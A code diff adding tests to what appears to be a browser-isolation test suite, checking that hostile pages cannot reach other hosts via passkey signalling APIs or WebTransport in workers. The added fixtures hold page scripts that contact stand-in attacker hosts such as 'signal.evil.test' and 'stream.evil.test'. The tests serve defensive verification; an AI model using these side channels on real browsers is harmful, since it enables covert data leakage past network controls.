@@ -1,6 +1,7 @@
 """Ways to other hosts that are no requests, or that no rule is asked about: taken from pages."""
 
 import json
+import socket
 
 import pytest
 from hostile import audited, blob, framed, page, reports
@@ -88,6 +89,45 @@ def test_no_page_is_fetched_ahead(serve):
     server, done, _ = audited(serve, page(AHEAD, inline), override, headers=headers)
     assert_kept(server, done)
     assert {"www.linkedin.com"} == server.greeted
+
+
+# Chromium itself asks the host that a page names whether it knows a passkey's (`signal…`).
+SIGNALS = """
+const signal = { rpId: "signal.evil.test", credentialId: "eA", userId: "eA",
+  allAcceptedCredentialIds: [] };
+const everywhere = [globalThis, document.body.appendChild(document.createElement("iframe"))
+  .contentWindow];
+for (const one of everywhere) {
+  one.PublicKeyCredential?.signalUnknownCredential?.(signal).catch(() => 0);
+  one.PublicKeyCredential?.signalAllAcceptedCredentials?.(signal).catch(() => 0);
+}
+"""
+
+
+def test_no_host_is_asked_about_passkeys(serve):
+    """What a page tells the browser of passkeys asks no other host."""
+    server, done, _ = audited(serve, page(SIGNALS), elsewhere)
+    assert_kept(server, done)
+    assert {"www.linkedin.com"} == server.greeted
+
+
+@pytest.mark.parametrize("path", ["a blob", "/worker.js"])
+def test_no_worker_opens_a_stream_to_another_host(serve, path):
+    """A worker, which has WebTransport, reaches no other host by it."""
+    script = "new WebTransport('https://stream.evil.test/').closed.catch(() => 0);"
+    started = f"new Worker({blob(script) if path == 'a blob' else repr(path)});"
+
+    def override(asked):
+        if asked.path == "/worker.js":
+            return Answer(script, content_type="text/javascript")
+        return elsewhere(asked)
+
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
+        server, done, _ = audited(serve, page(started), override, listening=packets)
+        packets.setblocking(False)
+        assert_kept(server, done)
+        with pytest.raises(BlockingIOError):
+            packets.recv(1)
 
 
 OPENS = """
